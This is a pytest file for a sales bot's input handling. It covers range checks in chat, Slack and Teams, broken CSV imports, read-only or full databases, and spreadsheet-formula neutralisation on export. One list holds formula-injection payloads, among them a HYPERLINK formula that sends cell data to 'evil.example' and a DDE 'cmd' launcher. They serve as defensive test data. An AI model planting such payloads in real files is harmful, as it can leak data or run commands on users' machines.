"""Hostile and broken input, where a value enters: chat, Slack modals, Teams cards, CSV files.
A number out of its range is refused, naming the field, the value and the allowed range, in
English and French, and nothing is changed (RELIABILITY.md)."""
from __future__ import annotations

import pytest
from sqlmodel import func, select

from fake_teams import card_text, find_action
from handlers.registry import run_command
from handlers.reply import Context
from slack_harness import all_text
from store.database import session_scope
from store.imports import import_accounts, import_deals
from store.models import Account, AuditRecord, Deal
from teams_harness import card
from test_imports import NOW, errors, imp, write


def _audits(engine) -> int:
    with session_scope(engine) as s:
        return s.exec(select(func.count()).select_from(AuditRecord)).one()


def _account(engine, name: str) -> Account:
    with session_scope(engine) as s:
        return s.exec(select(Account).where(Account.name == name)).one()


def _ctx(engine, playbook, language="en") -> Context:
    return Context(engine=engine, playbook=playbook, actor="ops", owner=None, language=language, clock=lambda: NOW)


def _said(reply, language="en") -> str:
    from bot.render import render

    return render(reply, surface="text", language=language, currency="EUR")


@pytest.fixture
def acme(engine, playbook, tmp_path):
    imp(engine, import_accounts, write(tmp_path, "a.csv", "name,owner,employees,annual_revenue\nAcme,alice,50,1000\n"),
        playbook)
    imp(engine, import_deals, write(tmp_path, "d.csv", "Deal Name,Account,Stage,Amount\nAcme renewal,Acme,qualification,500\n"),
        playbook)
    return "Acme"


OUT_OF_RANGE = [
    ("annual_revenue", "1e308", "0 … 1e15"),
    ("annual_revenue", "-5", "0 … 1e15"),
    ("lifetime_value", "2e15", "0 … 1e15"),
    ("employees", "1e20", "0 … 2 000 000 000"),
    ("employees", "-1", "0 … 2 000 000 000"),
    ("margin_pct", "150", "0 … 100"),
    ("margin_pct", "-0.5", "0 … 100"),
    ("nps", "1e300", "-1e15 … 1e15"),  # a number field declared in config.toml [fields]
]


@pytest.mark.parametrize("field,value,allowed", OUT_OF_RANGE)
def test_chat_set_refuses_a_number_out_of_range_naming_field_value_and_range(engine, playbook, acme,
                                                                             field, value, allowed):
    before, audits = _account(engine, acme), _audits(engine)
    reply = run_command(_ctx(engine, playbook), f"account Acme set {field}={value}")
    assert not reply.ok and reply.data["error"] == "bad_value"
    assert f"“{value}” is not a valid value for {field}. Expected: {allowed}." in _said(reply)
    assert "Rien n'a été modifié." in _said(reply, "fr") and allowed in _said(reply, "fr")
    after = _account(engine, acme)
    assert (after.annual_revenue, after.employees, after.margin_pct, after.custom) == (
        before.annual_revenue, before.employees, before.margin_pct, before.custom)
    assert _audits(engine) == audits


def test_chat_refuses_infinite_and_not_a_number(engine, playbook, acme):
    for value in ("inf", "nan", "1e999", "-inf", "Infinity"):
        reply = run_command(_ctx(engine, playbook), f"account Acme set annual_revenue={value}")
        assert not reply.ok and reply.data["error"] == "bad_value", value
    assert _account(engine, acme).annual_revenue == 1000


def test_the_edges_of_each_range_are_accepted(engine, playbook, acme):
    reply = run_command(_ctx(engine, playbook), "account Acme set annual_revenue=1e15 employees=2000000000 margin_pct=100")
    assert reply.ok, reply.data
    saved = _account(engine, acme)
    assert (saved.annual_revenue, saved.employees, saved.margin_pct) == (1e15, 2_000_000_000, 100)
    assert run_command(_ctx(engine, playbook), "account Acme").ok  # and it can still be shown
    assert run_command(_ctx(engine, playbook), "account Acme set margin_pct=0 annual_revenue=0").ok


def test_an_account_stored_with_1e308_before_the_checks_can_still_be_shown(engine, playbook, acme):
    from bot.render import render

    with session_scope(engine) as s:
        account = s.exec(select(Account).where(Account.name == "Acme")).one()
        account.annual_revenue, account.lifetime_value = 1e308, float("inf")
        s.add(account)
    reply = run_command(_ctx(engine, playbook), "account Acme")
    assert reply.ok
    assert "Annual revenue: 1e+308" in _said(reply)
    for surface in ("slack", "teams"):
        for language in ("en", "fr"):
            assert "1e+308" in str(render(reply, surface=surface, language=language))


def test_a_deal_amount_and_a_kpi_are_range_checked(engine, playbook, acme):
    ctx = _ctx(engine, playbook)
    reply = run_command(ctx, 'deal "Acme renewal" set amount=1e16')
    assert not reply.ok and "Expected: 0 … 1e15." in _said(reply)
    with session_scope(engine) as s:
        assert s.exec(select(Deal)).one().amount == 500
    assert run_command(ctx, "plan Acme").ok
    reply = run_command(ctx, "kpi Acme churn 140")
    assert not reply.ok and "Expected: 0 … 100." in _said(reply)
    reply = run_command(ctx, "kpi Acme renewal_revenue -3")
    assert not reply.ok and "Expected: 0 … 1e15." in _said(reply)


def test_a_csv_with_values_out_of_range_is_refused_line_by_line_and_writes_nothing(engine, playbook, tmp_path,
                                                                                   acme):
    from bot.render import render

    text = ("name,owner,annual_revenue,employees,margin_pct,nps\n"
            "Big Co,alice,1e308,1e20,150,1e300\n"
            "Small Co,alice,-1,-3,-0.5,5\n"
            "Fine Co,alice,1000,10,50,5\n")
    report = imp(engine, import_accounts, write(tmp_path, "big.csv", text), playbook)
    assert not report.written
    assert errors(report) == {(line, column, "out_of_range") for line in (2, 3)
                              for column in ("annual_revenue", "employees", "margin_pct")} | {(2, "nps", "out_of_range")}
    deals = imp(engine, import_deals, write(tmp_path, "d.csv", "Deal Name,Account,Stage,Amount\nX,Acme,qualification,9e99\n"),
                playbook)
    assert errors(deals) == {(2, "Amount", "out_of_range")}
    from handlers.reply import Reply

    said = render(Reply("import_report", report.to_dict(), ok=False), surface="text", language="en")
    assert "column “annual_revenue”: out of range (“1e308”, “-1”); allowed: 0 … 1e15." in said
    said_fr = render(Reply("import_report", report.to_dict(), ok=False), surface="text", language="fr")
    assert "hors limites (“150”, “-0.5”) ; autorisé : 0 … 100." in said_fr
    with session_scope(engine) as s:
        assert [a.name for a in s.exec(select(Account))] == ["Acme"]


def test_a_slack_modal_refuses_out_of_range_under_the_field_and_saves_nothing(rig):
    from test_slack_modals import _state

    name = run_command(rig.context(), "accounts owner=alice").data["accounts"][0]["account"]
    card_ = rig.wait_response(rig.command(f"account {name}"))
    rig.click("U_ALICE", card_["blocks"], "gare_edit_account")
    view = rig.wait_call("views.open")["view"]
    values = _state(view)
    before, audits = _account(rig.engine, name), _audits(rig.engine)
    for field, value, allowed in (("f_annual_revenue", "1e308", "0 … 1e15"), ("f_employees", "1e20", "2 000 000 000"),
                                  ("f_margin_pct", "101", "0 … 100")):
        if field not in values:
            continue
        status, answer = rig.submit("U_ALICE", view, {**values, field: {"type": "plain_text_input", "value": value}})
        assert status == 200 and answer["response_action"] == "errors", answer
        assert value in answer["errors"][field] and allowed in answer["errors"][field]
    after = _account(rig.engine, name)
    assert (after.annual_revenue, after.employees, after.margin_pct) == (
        before.annual_revenue, before.employees, before.margin_pct)
    assert _audits(rig.engine) == audits


def test_a_teams_card_refuses_out_of_range_under_the_field_and_saves_nothing(teams):
    with session_scope(teams.engine) as s:
        name = s.exec(select(Account).where(Account.owner == "alice").order_by(Account.name)).first().name
    account = card(teams.say(f'account "{name}"'))
    form = card(teams.submit({}, find_action(account, verb="edit_account")))
    save = find_action(form, verb="save_account")
    before, audits = _account(teams.engine, name), _audits(teams.engine)
    for field, value, allowed in (("f_margin_pct", "1e308", "0 … 100"), ("f_margin_pct", "-4", "0 … 100")):
        bad = teams.execute(save, inputs={field: value})["value"]
        body = bad["body"]
        where = next(i for i, b in enumerate(body) if b.get("id") == field)
        assert body[where + 1]["color"] == "Attention"
        assert value in body[where + 1]["text"] and allowed in body[where + 1]["text"]
    after = _account(teams.engine, name)
    assert after.margin_pct == before.margin_pct and _audits(teams.engine) == audits
    assert "Saved" in card_text(teams.execute(save, inputs={"f_margin_pct": "100"})["value"])


# --- exports: no formula reaches a spreadsheet -----------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+SUM(1)", "@x", "-2+3", "\tTab Co", "=cmd|' /C calc'!A0"]


def test_export_neutralises_formula_cells_and_reads_back_unchanged(db_url, tmp_path):
    import csv
    import io

    from test_cli import gare

    rows = io.StringIO()
    writer = csv.writer(rows)
    writer.writerow(["name", "owner", "industry", "annual_revenue", "nps", "churn_reason"])
    for n, name in enumerate(FORMULAS):
        writer.writerow([name, "alice", "=1+2" if n == 0 else "Retail", 1000 + n, -5 if n == 1 else 7, "@SUM(A1)"])
    source = tmp_path / "formulas.csv"
    source.write_text(rows.getvalue(), encoding="utf-8")
    assert gare("import", "accounts", str(source), db_url=db_url).returncode == 0
    deals = tmp_path / "deals.csv"
    deals.write_text('Deal Name,Account,Stage,Amount\n"=1+1",+SUM(1),qualification,500\n', encoding="utf-8")
    assert gare("import", "deals", str(deals), db_url=db_url).returncode == 0

    exported = tmp_path / "out.csv"
    result = gare("export", "accounts", str(exported), db_url=db_url)
    assert result.returncode == 0, result.stderr
    with open(exported, newline="", encoding="utf-8") as f:
        table = list(csv.DictReader(f))
    by_name = {r["name"]: r for r in table}
    assert set(by_name) == {"'" + name.strip() if name.strip()[0] in "=+-@" else name.strip() for name in FORMULAS}
    for r in table:
        for column, cell in r.items():
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), (column, cell)
            assert not cell.startswith("-") or column in ("annual_revenue", "nps"), (column, cell)
    plus = by_name["'+SUM(1)"]
    assert plus["nps"] == "-5" and plus["churn_reason"] == "'@SUM(A1)"  # a negative number stays a number
    assert by_name["'" + FORMULAS[0]]["industry"] == "'=1+2"

    deals_out = tmp_path / "deals_out.csv"
    assert gare("export", "deals", str(deals_out), db_url=db_url).returncode == 0
    with open(deals_out, newline="", encoding="utf-8") as f:
        deal = next(csv.DictReader(f))
    assert (deal["name"], deal["account"]) == ("'=1+1", "'+SUM(1)")

    # Importing the export back changes nothing: the quote is taken off again.
    again = gare("import", "accounts", str(exported), "--dry-run", db_url=db_url, env_extra={"GARE_LANG": "en"})
    assert again.returncode == 0 and "6 unchanged" in again.stdout + again.stderr, again.stdout + again.stderr


# --- CSV files: broken structure is refused, naming the line ---------------------------------------

BROKEN_FILES = {
    # a row with a cell too few, one with a cell too many: the line and both counts
    "cells.csv": ("name,owner,status\nGood Co,alice,customer\nShort Co,alice\nLong Co,bob,prospect,oops\n",
                  {(3, None, "field_count"), (4, None, "field_count")}),
    # a quote never closed: read leniently, Beta's row became part of Acme's name
    "quote.csv": ('name,owner,status\n"Acme,alice,customer\nBeta,bob,prospect\n', {(2, None, "unbalanced_quote")}),
    "quote_mid.csv": ('name,owner,status\nAcme,"al"ice,customer\nBeta,bob,prospect\n', {(2, None, "unbalanced_quote")}),
    # a quote closed rows later: one row with too many cells
    "quote_late.csv": ('name,owner,status\nAcme,"alice,customer\nBeta",bob,prospect\n', {(2, None, "field_count")}),
    # which owner? (today the second, empty, one won: an account without owner)
    "dup.csv": ("name,owner,status,Owner\nDup Co,alice,customer,\n", {(1, "Owner", "duplicate_column")}),
    # a semicolon row in a comma file (today: an account named "Mixed Co;alice;customer")
    "mixed.csv": ("name,owner,status\nFine Co,bob,prospect\nMixed Co;alice;customer\n", {(3, None, "other_delimiter")}),
}


@pytest.mark.parametrize("name", sorted(BROKEN_FILES))
def test_a_broken_csv_is_refused_naming_the_line_and_writes_nothing(engine, playbook, tmp_path, name):
    text, expected = BROKEN_FILES[name]
    report = imp(engine, import_accounts, write(tmp_path, name, text), playbook)
    assert not report.written and errors(report) == expected
    with session_scope(engine) as s:
        assert s.exec(select(func.count()).select_from(Account)).one() == 0
    said = _said_report(report, "en")
    assert "Nothing was written" in said and "cannot be read" not in said


def _said_report(report, language):
    from bot.render import render
    from handlers.reply import Reply

    return render(Reply("import_report", report.to_dict(), ok=False), surface="text", language=language)


def test_what_a_broken_csv_report_says_in_english_and_french(engine, playbook, tmp_path):
    mixed = imp(engine, import_accounts, write(tmp_path, "m.csv", BROKEN_FILES["mixed.csv"][0]), playbook)
    assert "line 3: the cells are separated by “;” but the file's by “,”. Separate them by “,” like the other rows." \
        in _said_report(mixed, "en")
    assert "les cellules sont séparées par « ; » mais celles du fichier par « , »" in _said_report(mixed, "fr")
    cells = imp(engine, import_accounts, write(tmp_path, "c.csv", BROKEN_FILES["cells.csv"][0]), playbook)
    assert "2, 4 cells where the header has 3 columns" in _said_report(cells, "en")
    assert "2, 4 cellules alors que l'en-tête a 3 colonnes" in _said_report(cells, "fr")
    quote = imp(engine, import_accounts, write(tmp_path, "q.csv", BROKEN_FILES["quote.csv"][0]), playbook)
    assert "line 2: a quote opens a cell and is not closed" in _said_report(quote, "en")
    assert "guillemet" in _said_report(quote, "fr")
    dup = imp(engine, import_accounts, write(tmp_path, "d.csv", BROKEN_FILES["dup.csv"][0]), playbook)
    assert "column “Owner”: this column is in the header twice" in _said_report(dup, "en")
    assert "deux fois" in _said_report(dup, "fr")


@pytest.mark.parametrize("content", [
    bytes(range(1, 32)) * 40,                                    # control bytes, no NUL: was "empty"
    b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 4,                # an image
    b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\x01\x02\x03\x04\x05\x06\x07\x08\x0e\x0f\n",
])
def test_a_binary_file_is_not_text(engine, playbook, tmp_path, content):
    path = tmp_path / "accounts.csv"
    path.write_bytes(content)
    report = imp(engine, import_accounts, path, playbook)
    assert errors(report) == {(1, None, "unreadable_file")}


def test_a_stray_control_character_in_a_note_is_still_text(engine, playbook, tmp_path):
    report = imp(engine, import_accounts, write(tmp_path, "a.csv", "name,owner,churn_reason\nAcme,alice,see \x07 note\n"),
                 playbook)
    assert report.written


# --- the command line: one sentence with the cause and the fix, never a trace ---------------------

def _gare(*args, db_url, limit_file_size=None, without_root=False):
    """`gare ...` in its own process. `without_root`: root's power to write any file is dropped,
    so that a read-only file is read-only for the test too; `limit_file_size`: files may not grow
    beyond it (RLIMIT_FSIZE), as on a full disk."""
    import os
    import resource
    import signal
    import subprocess
    import sys

    from test_cli import ROOT

    env = {k: v for k, v in os.environ.items() if k not in ("GARE_CONFIG", "DATABASE_URL", "GARE_LANG")}
    env.update(DATABASE_URL=db_url, GARE_LANG="en")

    def limits():
        if limit_file_size:
            signal.signal(signal.SIGXFSZ, signal.SIG_IGN)  # a write beyond the limit fails instead of killing
            resource.setrlimit(resource.RLIMIT_FSIZE, (limit_file_size, limit_file_size))

    prefix = ["setpriv", "--inh-caps=-all", "--bounding-set=-all"] if without_root and os.geteuid() == 0 else []
    result = subprocess.run([*prefix, sys.executable, "-m", "bot", *args], capture_output=True, text=True, env=env,
                            cwd=ROOT, timeout=120, preexec_fn=limits)
    said = result.stdout + result.stderr
    assert "Traceback" not in said and 'File "' not in said, said
    return result.returncode, said


def _count_accounts(db_url) -> int:
    from store.database import make_engine

    engine = make_engine(db_url)
    try:
        with session_scope(engine) as s:
            return s.exec(select(func.count()).select_from(Account)).one()
    finally:
        engine.dispose()


@pytest.fixture
def read_only(db_url, tmp_path):
    """The test database made read-only: a file without write permission, or a PostgreSQL
    database whose transactions are read-only (a replica, a locked-down role)."""
    import os
    import stat

    from sqlalchemy import create_engine, text
    from sqlalchemy.engine import make_url

    assert _gare("ask", "account Acme set industry=Steel", db_url=db_url)[0] == 1  # creates the schema
    if db_url.startswith("sqlite"):
        path = make_url(db_url).database
        os.chmod(path, stat.S_IRUSR | stat.S_IRGRP | stat.S_IROTH)
        os.chmod(os.path.dirname(path), stat.S_IRUSR | stat.S_IXUSR)
        yield db_url
        os.chmod(os.path.dirname(path), stat.S_IRWXU)
        os.chmod(path, stat.S_IRUSR | stat.S_IWUSR)
        return
    from conftest import PG_ADMIN_URL

    name = make_url(db_url).database
    admin = create_engine(PG_ADMIN_URL, isolation_level="AUTOCOMMIT")
    with admin.connect() as conn:
        conn.execute(text(f'ALTER DATABASE "{name}" SET default_transaction_read_only = on'))
    try:
        yield db_url
    finally:
        with admin.connect() as conn:
            conn.execute(text(f'ALTER DATABASE "{name}" RESET default_transaction_read_only'))
        admin.dispose()


def test_a_read_only_database_is_said_in_one_sentence(read_only, tmp_path):
    source = write(tmp_path, "a.csv", "name,owner\nAcme,alice\n")
    expected = "is read-only, so nothing was changed: make the file and its folder writable for this user, " \
               "or point DATABASE_URL or --db at a writable database."
    for args in (("import", "accounts", str(source)), ("demo",)):
        code, said = _gare(*args, db_url=read_only, without_root=True)
        assert code == 1 and expected in said, said
    assert _count_accounts(read_only) == 0


def test_a_read_only_database_in_chat_asks_for_the_admin(engine, playbook, acme):
    """What a chat user reads when the database refuses writes: no trace, nothing saved."""
    from sqlalchemy import event

    def refuse(conn, cursor, statement, parameters, context, executemany):
        if statement.lstrip().upper().startswith(("UPDATE", "INSERT")):
            raise _read_only_error(engine)

    event.listen(engine, "before_cursor_execute", refuse)
    try:
        reply = run_command(_ctx(engine, playbook), "account Acme set industry=Steel")
    finally:
        event.remove(engine, "before_cursor_execute", refuse)
    assert reply.data == {"error": "storage", "kind": "db_read_only"}
    assert _said(reply) == "Gare's database is read-only just now, so nothing was saved: please tell your admin.\n"
    assert "lecture seule" in _said(reply, "fr")
    from bot.render import render

    for surface in ("slack", "teams"):
        assert "read-only" in str(render(reply, surface=surface, language="en"))
    assert _account(engine, acme).industry is None


def _read_only_error(engine):
    """The error the database itself raises on a write it refuses, read from a real read-only connection."""
    import sqlite3

    from sqlalchemy.exc import OperationalError

    if engine.dialect.name == "sqlite":
        return OperationalError("UPDATE", {}, sqlite3.OperationalError("attempt to write a readonly database"))
    with engine.connect() as conn:
        from sqlalchemy import text

        conn.execute(text("SET TRANSACTION READ ONLY"))
        try:
            conn.execute(text("CREATE TEMPORARY TABLE t (x int)"))
        except Exception as exc:
            return exc
    raise AssertionError("PostgreSQL wrote in a read-only transaction")


def test_a_full_disk_is_said_in_one_sentence_and_changes_nothing(db_url, tmp_path):
    if not db_url.startswith("sqlite"):
        pytest.skip("the disk under the PostgreSQL server is not this process's to fill")
    assert _gare("ask", "accounts", db_url=db_url)[0] in (0, 1)
    rows = "".join(f"Company {n},alice,Retail,{'x' * 200}\n" for n in range(3000))
    source = write(tmp_path, "many.csv", "name,owner,industry,churn_reason\n" + rows)
    code, said = _gare("import", "accounts", str(source), db_url=db_url, limit_file_size=256 * 1024)
    assert code == 1
    assert "The disk that holds the database" in said and "is full, so nothing was changed: free some space" in said
    assert _count_accounts(db_url) == 0


def test_a_database_that_does_not_exist_is_said_in_one_sentence(db_url, tmp_path):
    from sqlalchemy.engine import make_url

    if db_url.startswith("sqlite"):
        missing = "sqlite:////proc/gare-nowhere/gare.db"  # a folder nobody can create
    else:
        missing = make_url(db_url).set(database="gare_no_such_database").render_as_string(hide_password=False)
    code, said = _gare("ask", "accounts", db_url=missing)
    assert code == 1 and "does not exist and Gare cannot create it: create it" in said, said
    assert "cannot be reached" not in said


def test_an_unreadable_or_binary_import_file_is_said_in_one_sentence(db_url, tmp_path):
    import os

    binary = tmp_path / "accounts.csv"
    binary.write_bytes(bytes(range(1, 32)) * 40)
    code, said = _gare("import", "accounts", str(binary), db_url=db_url)
    assert code == 1 and "the file cannot be read as CSV text. Export it again as CSV (UTF-8)" in said
    code, said = _gare("import", "accounts", str(tmp_path), db_url=db_url)
    assert code == 1 and f"Gare cannot read {tmp_path} (Is a directory)" in said
    locked = write(tmp_path, "locked.csv", "name,owner\nAcme,alice\n")
    os.chmod(locked, 0)
    code, said = _gare("import", "accounts", str(locked), db_url=db_url, without_root=True)
    assert code == 1 and f"Gare cannot read {locked} (Permission denied): give this user the right to read it" in said
    assert _count_accounts(db_url) == 0
